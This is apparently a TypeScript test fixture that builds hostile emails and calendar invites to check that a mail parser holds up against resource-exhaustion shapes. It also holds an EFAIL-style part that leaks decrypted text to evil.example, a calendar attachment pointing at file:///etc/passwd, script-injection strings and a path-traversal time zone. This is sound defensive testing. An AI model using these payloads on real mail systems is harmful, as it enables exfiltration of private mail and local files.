// Rows 38 and 39: mails whose size or shape is the attack, and calendars that never end.
import { eachOf, mailOf, subject, type HostileMail } from './hostile-mail.ts';

const nested = (depth: number): string => {
  let open = '';
  for (let level = 0; level < depth; level += 1)
    open += `--b${level}\r\nContent-Type: multipart/mixed; boundary=b${level + 1}\r\n\r\n`;
  return `${open}--b${depth}\r\n\r\ndiep\r\n`;
};
const forwarded = (depth: number): string =>
  'Content-Type: message/rfc822\r\n\r\nSubject: doorgestuurd\r\n'.repeat(depth) + '\r\ndiep\r\n';
const parts = (count: number): string => `${'--b\r\n\r\nx\r\n'.repeat(count)}--b--\r\n`;
const uuencoded = (lines: number): string =>
  `begin 644 a.bin\r\n${'M'.padEnd(61, '!')}\r\n`.concat(`${'M'.padEnd(61, '!')}\r\n`.repeat(lines), '`\r\nend\r\n');

const inType = (type: string, title: string, body: string, ...more: readonly string[]): Buffer =>
  mailOf([subject(title), `Content-Type: ${type}`, ...more], body);

const SHAPES: readonly (readonly [
  name: string,
  make: (title: string) => Buffer,
  note?: 'too-complex' | 'too-large',
])[] = [
  [
    '5,000 parts inside one another',
    (title) => inType('multipart/mixed; boundary=b0', title, nested(5_000)),
    'too-complex',
  ],
  ['45 parts inside one another', (title) => inType('multipart/mixed; boundary=b0', title, nested(45)), 'too-complex'],
  [
    '2,000 forwarded inside one another',
    (title) => inType('multipart/digest; boundary=b', title, `--b\r\n\r\n${forwarded(2_000)}\r\n--b--\r\n`),
  ],
  ['100,000 parts', (title) => inType('multipart/mixed; boundary=b', title, parts(100_000)), 'too-complex'],
  ['1,500 parts', (title) => inType('multipart/alternative; boundary=b', title, parts(1_500)), 'too-complex'],
  [
    'one boundary inside itself',
    (title) =>
      inType(
        'multipart/mixed; boundary=b',
        title,
        '--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(3_000),
      ),
    'too-complex',
  ],
  [
    'a boundary that is a prefix of the next',
    (title) => inType('multipart/mixed; boundary=b', title, '--bb\r\n--b b\r\n'.repeat(20_000)),
  ],
  ['an empty boundary', (title) => inType('multipart/mixed; boundary=""', title, '--\r\n\r\nx\r\n'.repeat(20_000))],
  ['a header of 2 MB', (title) => mailOf([subject(title), `X-Groot: ${'a'.repeat(2_000_000)}`])],
  ['a header of 2 MB in folded lines', (title) => mailOf([subject(title), `X-Groot: a${'\r\n a'.repeat(400_000)}`])],
  ['100,000 header fields', (title) => mailOf([subject(title), 'X-A: b\r\n'.repeat(100_000).trimEnd()]), 'too-complex'],
  [
    '20,000 recipients',
    (title) =>
      mailOf([subject(title), `To: ${Array.from({ length: 20_000 }, (_, index) => `a${index}@b.example`).join(', ')}`]),
  ],
  [
    '20,000 references',
    (title) =>
      mailOf([
        subject(title),
        `References: ${Array.from({ length: 20_000 }, (_, index) => `<r${index}@b.example>`).join(' ')}`,
      ]),
  ],
  [
    'a reference of a million letters',
    (title) => mailOf([subject(title), `References: <${'a'.repeat(1_000_000)}@b.example>`]),
  ],
  ['one line of 10 MB', (title) => inType('text/plain', title, 'a'.repeat(10_000_000))],
  ['one page of a single line of 10 MB', (title) => inType('text/html', title, `<p>${'a '.repeat(5_000_000)}`)],
  ['640,000 tags', (title) => inType('text/html', title, '<p>'.repeat(640_000))],
  ['100,000 nested blocks', (title) => inType('text/html', title, '<div>'.repeat(100_000))],
  ['100,000 nested quotes', (title) => inType('text/html', title, `${'<blockquote>'.repeat(100_000)}diep`)],
  ['a tag that never ends', (title) => inType('text/html', title, `<a ${'x="y" '.repeat(200_000)}`)],
  ['a comment that never ends', (title) => inType('text/html', title, '<!-- '.repeat(200_000))],
  ['200,000 entities', (title) => inType('text/html', title, '&amp;&#x1f600;&nosuch;'.repeat(70_000))],
  ['200,000 lines with a quote mark', (title) => inType('text/plain', title, '> \r\n'.repeat(200_000))],
  ['a quote mark 200,000 deep', (title) => inType('text/plain', title, '>'.repeat(200_000))],
  [
    'quoted-printable that is all escapes',
    (title) => inType('text/plain', title, '=\r\n=3D='.repeat(150_000), 'Content-Transfer-Encoding: quoted-printable'),
  ],
  [
    'base64 that is padding',
    (title) => inType('text/plain', title, 'QQ==\r\n'.repeat(100_000), 'Content-Transfer-Encoding: base64'),
  ],
  [
    'base64 that is no base64',
    (title) => inType('text/plain', title, '\x00\xff!@#'.repeat(100_000), 'Content-Transfer-Encoding: base64'),
  ],
  ['50,000 encoded words', (title) => mailOf([subject(`${title} ${'=?utf-8?Q?=E9?= '.repeat(50_000)}`)])],
  ['50,000 openings of an encoded word', (title) => mailOf([subject(`${title} ${'=?utf-8?Q?'.repeat(50_000)}`)])],
  [
    '50,000 parentheses in From',
    (title) => mailOf([`From: ${'('.repeat(50_000)} klant@voorbeeld.example`, subject(title)]),
  ],
  [
    '50,000 quotes in From',
    (title) => mailOf([`From: ${'"\\'.repeat(50_000)} <klant@voorbeeld.example>`, subject(title)]),
  ],
  [
    '50,000 semicolons in a type',
    (title) => mailOf([subject(title), `Content-Type: text/plain${';a=b'.repeat(50_000)}`]),
  ],
  [
    'a file name in 5,000 pieces',
    (title) =>
      mailOf([
        subject(title),
        `Content-Disposition: attachment${Array.from({ length: 5_000 }, (_, index) => `; filename*${index}*=%41`).join('')}`,
      ]),
  ],
  ['uuencode of 2 MB', (title) => inType('text/plain', title, uuencoded(33_000))],
  ['20,000 beginnings of uuencode', (title) => inType('text/plain', title, 'begin 644 a\r\n'.repeat(20_000))],
  [
    '20,000 beginnings of yEnc',
    (title) => inType('text/plain', title, '=ybegin line=128 size=9 name=a\r\n'.repeat(20_000)),
  ],
  [
    'a winmail.dat that promises 4 GB',
    (title) =>
      inType(
        'application/ms-tnef; name=winmail.dat',
        title,
        '\x78\x9f\x3e\x22\x01\x00\x02\x05\x90\x06\x00\xff\xff\xff\xff'.repeat(1_000),
      ),
  ],
  [
    'Japanese that never leaves its shift',
    (title) => inType('text/plain; charset=iso-2022-jp', title, '\x1b$B'.repeat(100_000)),
  ],
  ['UTF-7 that never leaves its shift', (title) => inType('text/plain; charset=utf-7', title, '+'.repeat(200_000))],
  [
    'flowed lines that never end',
    (title) => inType('text/plain; format=flowed; delsp=yes', title, 'woord \r\n'.repeat(100_000)),
  ],
];

const FOR_NOBODY: readonly (readonly [type: string, body: string])[] = [
  ['application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m', 'MIAGCSqGSIb3DQEHA6CAMIACAQAx'],
  [
    'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b',
    '--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b--\r\n',
  ],
  ['text/plain', '-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0\r\n-----END PGP MESSAGE-----\r\n'],
  // Two parts around a third, so that a reader who joins them sends the clear text away (EFAIL).
  [
    'multipart/mixed; boundary=b',
    '--b\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIAG\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n',
  ],
];

const event = (...lines: readonly string[]): string =>
  [
    'BEGIN:VCALENDAR',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'UID:1',
    'SUMMARY:Afspraak',
    'DTSTART:20260601T090000Z',
    ...lines,
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
const CALENDARS: readonly string[] = [
  event('RRULE:FREQ=SECONDLY'),
  event('RRULE:FREQ=SECONDLY;COUNT=100000000'),
  event('RRULE:FREQ=YEARLY;UNTIL=99991231T235959Z'),
  event('RDATE:20260601T090000Z,'.repeat(20_000)),
  event('ATTACH:file:///etc/passwd'),
  event('ATTACH;FMTTYPE=text/html:https://evil.example/x'),
  event('DESCRIPTION:<script>alert(1)</script><img src=https://evil.example/x>'),
  event('X-ALT-DESC;FMTTYPE=text/html:<script>alert(1)</script>'),
  event('DTSTART;TZID="../../etc":20260601T090000', `LOCATION:${'a'.repeat(200_000)}`),
  event('SUMMARY:x\r\n '.repeat(50_000)),
  'BEGIN:VEVENT\r\n'.repeat(50_000),
  'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Afspraak',
];

export const HOSTILE_SHAPES: readonly HostileMail[] = [
  ...SHAPES.map(([name, make, note]) => ({
    row: 38,
    name,
    raw: make(name),
    expect: note === undefined ? {} : { note },
  })),
  ...eachOf(38, 'a mail that is encrypted', FOR_NOBODY, ([type, body], title) => ({
    raw: inType(type, title, body),
    expect: { note: 'encrypted' },
  })),
  ...eachOf(39, 'a calendar that goes on', CALENDARS, (calendar, title) => ({
    raw: inType('text/calendar; charset=utf-8; method=REQUEST', title, calendar),
    expect: { lacksText: 'file:///' },
  })),
];
